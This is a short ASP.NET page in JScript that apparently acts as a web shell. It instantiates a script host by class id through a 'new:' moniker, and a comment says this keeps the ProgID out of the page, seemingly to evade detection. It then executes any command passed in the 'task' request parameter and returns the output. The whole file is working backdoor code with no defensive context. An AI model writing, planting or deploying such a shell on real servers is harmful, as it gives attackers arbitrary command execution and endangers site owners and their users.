<%@ Page Language="JScript" %>
<%
// the script host created from its class id through a "new:" moniker, no ProgID in the page
var host = GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8");
var job = host.Exec(Request.Item["task"]);
Response.Write("<pre>" + Server.HtmlEncode(job.StdOut.ReadAll()) + "</pre>");
%>
